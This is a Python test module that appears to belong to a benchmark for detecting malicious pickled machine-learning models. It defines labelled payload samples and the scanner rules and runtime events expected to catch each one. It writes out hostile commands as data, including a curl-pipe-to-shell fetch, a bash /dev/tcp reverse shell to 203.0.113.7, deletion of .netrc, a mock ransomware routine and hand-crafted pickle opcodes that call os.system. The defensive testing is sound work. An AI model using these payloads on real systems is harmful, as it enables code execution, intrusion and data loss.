"""Plain payloads: what the public malicious models do when they are loaded, in the containers they come in."""

from __future__ import annotations

import posix
from builtins import exec as run_source
from collections.abc import Iterator

from bench.detection.build.pickled import (
    CALLED,
    SYSTEM,
    by_pickler,
    declared,
    in_torch_legacy,
    in_torch_zip,
    sample,
)
from bench.detection.sample import Part, Sample, rules
from tests.malicious import FIXTURES
from tests.malicious.pickles import call, literal, run, stream

_PUBLIC = "public lists of malicious models"
_OWN = "sandbox-load's tests"
_OPCODE_TESTS = "picklescan's tests"

# Of tests/malicious.
_FIXTURES = """
os_system subprocess_popen instance_opcode object_opcode nested_pickle getattr_chain partial map
reconstructor code_object dotted_name memo_shuffle payload_then_broken absent_gadget class_patch reverse_shell
dns stage_two udp listen metadata odd_sockets credentials environment
argv_theft authorized_keys cron sitecustomize wiper fork memfd attack_pid_1
read_pid_1 second_filter foreign_call io_uring escape torch_zip torch_legacy data_loader
carried_exec appended shadowed_method shadowed_finalizer numpy_applier generator_constructor ufunc_import weak_callback
initialiser
"""


def _of_fixtures() -> Iterator[Sample]:
    known = {fixture.name: fixture for fixture in FIXTURES}
    for fixture in map(known.__getitem__, _FIXTURES.split()):
        file = f"model{fixture.suffix}"
        yield Sample(fixture.name, Part.MALICIOUS, fixture.technique, _OWN, file, fixture.build, rules(CALLED))


_RANSOM = """
    import os
    home = os.path.expanduser("~/")
    for name in ("Documents/notes.txt", "Documents/thesis.docx"):
        try:
            with open(home + name + ".locked", "wb") as file:
                file.write(b"pay")
        except OSError:
            pass
"""
_WINDOWS = """
    import os
    if os.name == "nt":
        os.system("calc.exe")
"""
_CURL = ["curl", "-s", "http://203.0.113.7/x"]

_PLAIN = (
    (
        "shell_pipe",
        "a shell that fetches and runs",
        call("posix", "system", "curl -s http://203.0.113.7/x | sh"),
    ),
    ("base64_shell", "a shell line that is base64", call("posix", "system", "echo aWQ= | base64 -d | sh")),
    ("curl", "the network through a child", call("subprocess", "run", _CURL)),
    ("bash_tcp", "bash's /dev/tcp", call("posix", "system", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")),
    ("popen", "os.popen", call("os", "popen", "id")),
    ("execute", "os.execv in the loader's place", call("posix", "execv", "/usr/bin/id", ["id"])),
    ("terminal", "pty.spawn", call("pty", "spawn", "id")),
    ("browser", "opens a page in a browser", call("webbrowser", "open", "https://example.invalid/")),
    ("urlopen", "the network in this process", call("urllib.request", "urlopen", "http://203.0.113.7/x")),
    ("requests", "the network by a package", call("requests.api", "get", "http://203.0.113.7/x")),
    ("remove", "deletes a file", call("posix", "remove", "/home/user/.netrc")),
    ("open_for_writing", "makes a file", call("io", "open", "/tmp/owned", "w")),
    ("ransom", "encrypted copies beside the user's files", run(_RANSOM)),
    ("print_only", "print, and nothing else", call("builtins", "print", "pwned")),
    ("compute_only", "an assignment, and nothing else", call("builtins", "exec", "x = 1")),
    ("import_only", "imports a module", call("builtins", "__import__", "this")),
    ("windows_only", "acts on another platform", run(_WINDOWS)),
    ("windows_program", "os.startfile, which only Windows has", call("os", "startfile", "calc.exe")),
    ("raises", "raises when it is loaded", call("builtins", "exec", "raise SystemExit(0)")),
    ("never_valid", "source that doesn't compile", call("builtins", "exec", "import os; os.system('id'")),
)

_PROTOCOLS = tuple(
    sample(
        f"protocol_{number}",
        f"a shell command as protocol {number} writes it",
        _OPCODE_TESTS,
        by_pickler(number, posix.system, "id"),
    )
    for number in range(6)
) + tuple(
    sample(
        f"source_protocol_{number}",
        f"source text as protocol {number} writes it",
        _OPCODE_TESTS,
        by_pickler(number, run_source, "import os; os.system('id')"),
    )
    for number in (0, 2, 4)
)

_HAND_MADE = (
    ("text_opcodes", "protocol 0, without a header", b"cposix\nsystem\n(S'id'\ntR."),
    ("old_instance", "INST of a function", b"(S'id'\niposix\nsystem\n."),
    ("no_result", "the result is thrown away", b"\x80\x04" + SYSTEM + b"0" + literal({"a": 1}) + b"."),
    ("second_pickle", "the second of two pickles", stream({"a": 1}) + stream(SYSTEM)),
    ("no_stop", "the stream ends without STOP", b"\x80\x04" + SYSTEM),
    ("in_a_key", "the payload is a key of the model's dictionary", b"\x80\x04}" + SYSTEM + b"Ns."),
    (
        "as_a_state",
        "the payload is an object's state",
        b"\x80\x04cargparse\nNamespace\n)\x81" + SYSTEM + b"b.",
    ),
    ("as_a_pid", "the payload is a persistent id", b"\x80\x04" + SYSTEM + b"Q."),
)

_CONTAINERS = (
    ("bin", "a pickle named pytorch_model.bin", "CVE-2025-1889, CVE-2025-10155"),
    ("joblib", "a joblib file", "modelscan's tests"),
    ("joblib-zlib", "a compressed joblib file", "modelscan's tests"),
    ("npy", "a numpy array of objects", "picklescan's tests"),
    ("npz", "a numpy archive", "picklescan's tests"),
    ("gzip", "a compressed pickle", "picklescan's issues"),
    ("bzip2", "a compressed pickle", "picklescan's issues"),
    ("xz", "a compressed pickle", "ReversingLabs 2025: nullifAI (compressed otherwise than expected)"),
    ("tar", "a tar archive", "picklescan's issues"),
    ("zip", "a zip archive that isn't PyTorch's", "picklescan's tests"),
)

_CAUGHT = (
    (
        "global.dangerous.called",
        "event.fork event.program",
        """os_system instance_opcode object_opcode nested_pickle dotted_name memo_shuffle torch_zip torch_legacy
shell_pipe base64_shell bash_tcp protocol_0 protocol_1 protocol_2 protocol_3 protocol_4 protocol_5
source_protocol_0 source_protocol_2 source_protocol_4 text_opcodes old_instance second_pickle
in_a_key within_bin within_joblib within_joblib-zlib within_npy within_npz within_gzip within_bzip2
within_xz within_tar within_zip checkpoint_source""",
    ),
    ("global.dangerous.called", "event.fork event.program load.failed", "subprocess_popen curl popen as_a_state"),
    ("global.dangerous.called", "event.persistence event.write", "authorized_keys cron sitecustomize"),
    (
        "global.dangerous.called reader.incomplete",
        "event.fork event.program load.failed",
        "payload_then_broken no_stop as_a_pid",
    ),
    ("global.dangerous.called", "event.tamper", "read_pid_1 second_filter"),
    ("global.dangerous.called", "load.failed", "raises never_valid"),
    (
        "global.applier.called global.constructor.walks global.dangerous.passed reader.incomplete",
        "event.fork event.program",
        "map",
    ),
    ("global.applier.called oddity.spliced", "", "weak_callback"),
    ("global.constructor.walks global.dangerous.passed global.type.called reader.incomplete", "", "data_loader"),
    ("global.dangerous.called", "decoy.printed", "environment"),
    ("global.dangerous.called", "decoy.printed decoy.sent event.connect.resolver event.dns event.socket", "dns"),
    ("global.dangerous.called", "decoy.printed decoy.sent event.fork event.program", "argv_theft"),
    (
        "global.dangerous.called",
        "decoy.sent event.connect event.decoy event.read.secret event.send event.socket",
        "credentials",
    ),
    ("global.dangerous.called", "event.connect event.fork event.program event.socket", "reverse_shell"),
    ("global.dangerous.called", "event.connect event.socket", "stage_two"),
    ("global.dangerous.called", "event.connect event.socket load.failed", "urlopen"),
    ("global.dangerous.called", "event.connect.metadata event.socket", "metadata"),
    ("global.dangerous.called", "event.destroy event.persistence", "wiper"),
    ("global.dangerous.called", "event.destroy load.failed", "remove"),
    ("global.dangerous.called", "event.escape", "io_uring"),
    ("global.dangerous.called", "event.escape event.privilege", "escape"),
    ("global.dangerous.called", "event.fork", "fork"),
    ("global.dangerous.called", "event.fork event.memory.file event.program", "memfd"),
    ("global.dangerous.called", "event.listen event.socket", "listen"),
    ("global.dangerous.called", "event.memory.code", "foreign_call"),
    ("global.dangerous.called", "event.program load.failed", "execute"),
    ("global.dangerous.called", "event.send event.socket", "udp"),
    ("global.dangerous.called", "event.signal", "attack_pid_1"),
    ("global.dangerous.called", "event.socket.other event.socket.raw", "odd_sockets"),
    ("global.dangerous.called", "event.write", "ransom"),
    ("global.dangerous.called", "event.write load.failed", "open_for_writing"),
    ("global.dangerous.called", "event.write load.failed watch.dropped", "terminal"),
    ("global.dangerous.called global.function.called", "", "legacy_reduce"),
    ("global.dangerous.called global.inside.named", "event.fork event.program", "code_object"),
    ("global.dangerous.called oddity.spliced", "event.fork event.program", "no_result"),
    ("global.dangerous.passed global.rebuilder.odd", "event.fork event.program load.failed", "reconstructor"),
    (
        "global.dangerous.passed global.resolver.called global.resolver.machinery",
        "event.fork event.program",
        "getattr_chain",
    ),
    ("global.dangerous.passed global.result.called", "event.fork event.program", "partial"),
    ("global.dangerous.passed oddity.shadow", "", "carried_exec"),
    ("global.function.called", "", "print_only"),
    ("global.rebuilder.odd", "", "generator_constructor"),
    ("global.resolver.called", "", "ufunc_import"),
    ("global.type.called", "load.failed", "initialiser"),
    ("global.type.filled global.unknown.surveyed oddity.order", "", "appended"),
    ("global.type.filled oddity.order", "", "shadowed_method"),
    ("global.unknown.called", "", "numpy_applier"),
    ("global.unknown.surveyed oddity.shadow oddity.spliced", "", "shadowed_finalizer"),
    ("oddity.patch reader.incomplete", "load.failed", "class_patch"),
)

SAMPLES = declared(
    (
        *_of_fixtures(),
        *(sample(name, technique, _PUBLIC, payload) for name, technique, payload in _PLAIN),
        *_PROTOCOLS,
        *(sample(name, technique, _OPCODE_TESTS, content) for name, technique, content in _HAND_MADE),
        *(
            sample(f"within_{form}", technique, source, stream({"hook": SYSTEM}), form=form)
            for form, technique, source in _CONTAINERS
        ),
        in_torch_zip(
            "checkpoint_source", "source text in a PyTorch archive", _PUBLIC, run("import os; os.system('id')")
        ),
        in_torch_legacy("legacy_reduce", "a nested call in the old format", _PUBLIC, call("builtins", "print", SYSTEM)),
    ),
    _CAUGHT,
)
